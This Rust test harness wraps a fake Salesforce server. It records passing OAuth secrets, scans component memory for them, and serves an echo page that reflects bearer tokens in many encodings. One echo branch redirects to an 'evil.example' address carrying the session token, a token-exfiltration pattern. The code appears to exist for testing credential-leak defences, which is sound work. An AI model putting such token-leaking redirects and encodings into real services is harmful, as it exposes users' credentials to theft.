//! A fake Salesforce behind somebody who watches: who notes each secret that passes, and at each request of a component looks what the
//! components have in memory. It also has the page that repeats what it was sent.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, MutexGuard};

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use crm_fake::{Activity, Answer, Application, ControlError, CrmFake, Fault, Outcome, Record, RecordedRequest, SeedRecord, SeedUser};
use fake_salesforce::fake::FakeSalesforce;
use fake_salesforce::oauth::TEST_CLIENT_ID;
use http::{HeaderValue, Request, Response, header};
use serde_json::{Value as Json, json};

use super::memory;
use super::search::Search;

/// Path of the page that repeats.
pub const ECHO: &str = "/services/apexrest/echo";

/// Beside the fake's own, which is nearly all zeros: pieces of that stand everywhere.
const CLIENT_SECRET: &str = "9B2F4C7D1E8A6035F7C4B19E2D80A5631CE94F7B8D02A6E5394C1B7F60D8E2A3";

/// What was noted.
#[derive(Default)]
pub struct Notes {
    /// Secrets and what they are.
    secrets: BTreeMap<String, &'static str>,
    /// Access tokens that were given.
    pub granted: Vec<String>,
    /// All that came over the wire, as it came.
    pub requests: Vec<Request<Vec<u8>>>,
    /// Texts to look for in memory beside secrets, and how often they were there.
    pub controls: Vec<(String, usize)>,
    /// How often memory was looked at, and how much of it, in bytes.
    pub looks: (usize, usize),
    /// Secrets that stood in a component's memory.
    pub in_memory: Vec<String>,
}

impl Notes {
    pub fn search(&self) -> Search {
        Search::of(self.secrets.iter().map(|(secret, name)| (*name, secret.as_str())))
    }

    pub fn has(&self, name: &str) -> usize {
        self.secrets.values().filter(|known| **known == name).count()
    }

    fn secret(&mut self, name: &'static str, secret: &str) {
        if !secret.is_empty() {
            self.secrets.insert(secret.to_owned(), name);
        }
    }

    /// Query or form.
    fn parameters(&mut self, text: &str) {
        for (name, value) in pairs(text) {
            let name = match name {
                "client_secret" => "the client's secret",
                "code" => "an authorisation code",
                "code_verifier" => "a code verifier",
                "refresh_token" => "a refresh token",
                "token" => "a token that was given up",
                "state" => "a state",
                _ => continue,
            };
            self.secret(name, &value);
        }
    }

    fn request(&mut self, request: &Request<Vec<u8>>) {
        self.parameters(request.uri().query().unwrap_or_default());
        self.parameters(&String::from_utf8_lossy(request.body()));
        for value in request.headers().get_all(header::AUTHORIZATION) {
            self.secret("an access token", value.to_str().unwrap().rsplit(' ').next().unwrap());
        }
    }

    fn answer(&mut self, answer: &Answer) {
        let Outcome::Response(response) = &answer.outcome else { return };
        let Ok(Json::Object(told)) = serde_json::from_slice(response.body()) else { return };
        for (property, name) in [("access_token", "an access token"), ("refresh_token", "a refresh token"), ("id_token", "an id token")] {
            if let Some(secret) = told.get(property).and_then(Json::as_str) {
                self.secret(name, secret);
                if property == "access_token" {
                    self.granted.push(secret.to_owned());
                }
            }
        }
    }

    fn look(&mut self) {
        let search = self.search();
        self.looks.0 += 1;
        for memory in memory::of_components() {
            self.looks.1 += memory.len();
            self.in_memory.extend(search.find(&memory).map(str::to_owned));
            for (control, seen) in &mut self.controls {
                *seen += usize::from(memory.windows(control.len()).any(|window| window == control.as_bytes()));
            }
        }
    }
}

/// Names and values of a query or form.
fn pairs(text: &str) -> Vec<(&str, String)> {
    let plain = |value: &str| {
        let mut bytes = Vec::new();
        let mut rest = value.as_bytes();
        while let Some((first, more)) = rest.split_first() {
            let code = more.get(..2).and_then(|two| u8::from_str_radix(std::str::from_utf8(two).ok()?, 16).ok());
            match (first, code) {
                (b'%', Some(byte)) => {
                    bytes.push(byte);
                    rest = &more[2..];
                }
                _ => {
                    bytes.push(if *first == b'+' { b' ' } else { *first });
                    rest = more;
                }
            }
        }
        String::from_utf8_lossy(&bytes).into_owned()
    };
    text.split('&').filter_map(|pair| pair.split_once('=')).map(|(name, value)| (name, plain(value))).collect()
}

/// The fake, watched.
pub struct Watched {
    pub inner: FakeSalesforce,
    pub settings: Vec<(String, Json)>,
    notes: Arc<Mutex<Notes>>,
}

impl Watched {
    pub fn new() -> (Self, Arc<Mutex<Notes>>) {
        let mut inner = FakeSalesforce::new(0).refusing_known_numbers();
        inner.auth.app_mut(TEST_CLIENT_ID).unwrap().client_secret = Some(CLIENT_SECRET.to_owned());
        let notes = Arc::new(Mutex::new(Notes::default()));
        (Self { inner, settings: Vec::new(), notes: notes.clone() }, notes)
    }

    fn notes(&self) -> MutexGuard<'_, Notes> {
        self.notes.lock().unwrap()
    }
}

impl CrmFake for Watched {
    fn name(&self) -> &str {
        self.inner.name()
    }
    fn settings(&self, _: &str) -> Vec<(String, Json)> {
        self.settings.clone()
    }
    fn answer(&mut self, now_ms: u64, request: Request<Vec<u8>>) -> Answer {
        {
            let mut notes = self.notes();
            notes.request(&request);
            notes.requests.push(request.clone());
            if !request.uri().path().starts_with("/services/oauth2/") {
                // Whose request this is waits for its answer: its memory is as it left it.
                notes.look();
            }
        }
        let answer = if request.uri().path() == ECHO { echo(&request) } else { self.inner.answer(now_ms, request) };
        self.notes().answer(&answer);
        answer
    }
    fn person_approves(&mut self, now_ms: u64, authorise_url: &str) -> Result<String, ControlError> {
        let callback = self.inner.person_approves(now_ms, authorise_url)?;
        self.notes().parameters(authorise_url.split_once('?').unwrap_or_default().1);
        self.notes().parameters(callback.split_once('?').unwrap_or_default().1);
        Ok(callback)
    }
    fn application(&self, address: &str) -> Option<Application> {
        let app = self.inner.application(address)?;
        Some(Application { client_secret: CLIENT_SECRET.to_owned(), ..app })
    }
    fn seed(&mut self, now_ms: u64, records: Vec<SeedRecord>) -> Result<Vec<String>, ControlError> {
        self.inner.seed(now_ms, records)
    }
    fn seed_users(&mut self, now_ms: u64, users: Vec<SeedUser>) -> Result<Vec<String>, ControlError> {
        self.inner.seed_users(now_ms, users)
    }
    fn records(&self) -> Vec<Record> {
        self.inner.records()
    }
    fn activities(&self) -> Vec<Activity> {
        self.inner.activities()
    }
    fn requests(&self) -> Vec<RecordedRequest> {
        self.inner.requests()
    }
    fn inject(&mut self, fault: Fault) -> Result<(), ControlError> {
        self.inner.inject(fault)
    }
    fn clear_faults(&mut self) {
        self.inner.clear_faults();
    }
    fn advance(&mut self, now_ms: u64) {
        self.inner.advance(now_ms);
    }
    fn knob(&mut self, now_ms: u64, name: &str, value: Json) -> Result<Json, ControlError> {
        self.inner.knob(now_ms, name, value)
    }
    fn own_id(&self, name: &str) -> String {
        self.inner.own_id(name)
    }
}

/// Repeats the request's headers in the writing that it asks for, or answers in another way that could let them out.
fn echo(request: &Request<Vec<u8>>) -> Answer {
    let text = |value: &HeaderValue| value.to_str().unwrap().to_owned();
    let fields: BTreeMap<&str, String> = request.headers().iter().map(|(name, value)| (name.as_str(), text(value))).collect();
    let lines: String = fields.iter().map(|(name, value)| format!("{name}: {value}\r\n")).collect();
    let value = request.headers().get(header::AUTHORIZATION).map(text).unwrap_or_default();
    let token = value.trim_start_matches("Bearer ");
    let each = |text: &str, form: fn(u8) -> String| text.bytes().map(form).collect::<String>();
    let written = request.uri().query().unwrap_or_default().trim_start_matches("as=");
    let mut answer = Response::builder().header(header::CONTENT_TYPE, "text/plain");
    let body = match written {
        "plain" => lines,
        "json" => json!({ "headers": fields, "token": token }).to_string(),
        "json-ascii" => lines.replace('!', "\\u0021"),
        "html" => lines.replace('!', "&#33;"),
        "percent" => each(&lines, |byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") }),
        "percent-small" => {
            each(&lines, |byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02x}") })
        }
        "percent-all" => each(&lines, |byte| format!("%{byte:02X}")),
        "base64" => STANDARD.encode(token),
        "base64-of-all" => (0..3).map(|before| STANDARD.encode(format!("{}{lines}", "x".repeat(before))) + "\n").collect(),
        "base64-for-addresses" => (0..3).map(|before| URL_SAFE_NO_PAD.encode(format!("{}{value}", "x".repeat(before))) + "\n").collect(),
        "hex" => each(&lines, |byte| format!("{byte:02x}")),
        "hex-capitals" => each(&lines, |byte| format!("{byte:02X}")),
        "reversed" => lines.chars().rev().collect(),
        "beginning" => token.chars().take(60).collect(),
        "end" => token.chars().skip(40).collect(),
        "halves" => format!("{}\n{}", &token[..token.len() / 2], &token[token.len() / 2..]),
        "header" => {
            answer =
                answer.header("x-echo", &value).header("x-echo-64", STANDARD.encode(&value)).header("set-cookie", format!("sid={token}"));
            "in the head".to_owned()
        }
        "redirect" => {
            answer = answer.status(302).header(header::LOCATION, format!("http://evil.example/?sid={token}"));
            String::new()
        }
        "redirect-to-token" => {
            answer = answer.status(307).header(header::LOCATION, format!("/services/oauth2/userinfo?access_token={token}"));
            String::new()
        }
        "refused" => {
            answer = answer.status(401);
            json!([{ "errorCode": "INVALID_SESSION_ID", "message": format!("no session {token}") }]).to_string()
        }
        "forbidden" => {
            answer = answer.status(403);
            format!("Bad_OAuth_Token {token}")
        }
        "too-big" => lines.repeat(pbx_crm_host::limits::RESPONSE_BODY / lines.len() + 1),
        "cut" => return Answer { after_ms: 0, pace: None, outcome: Outcome::Cut },
        "nothing" => "nothing".to_owned(),
        other => panic!("there is no writing {other}"),
    };
    Answer::now(answer.body(body.into_bytes()).unwrap())
}
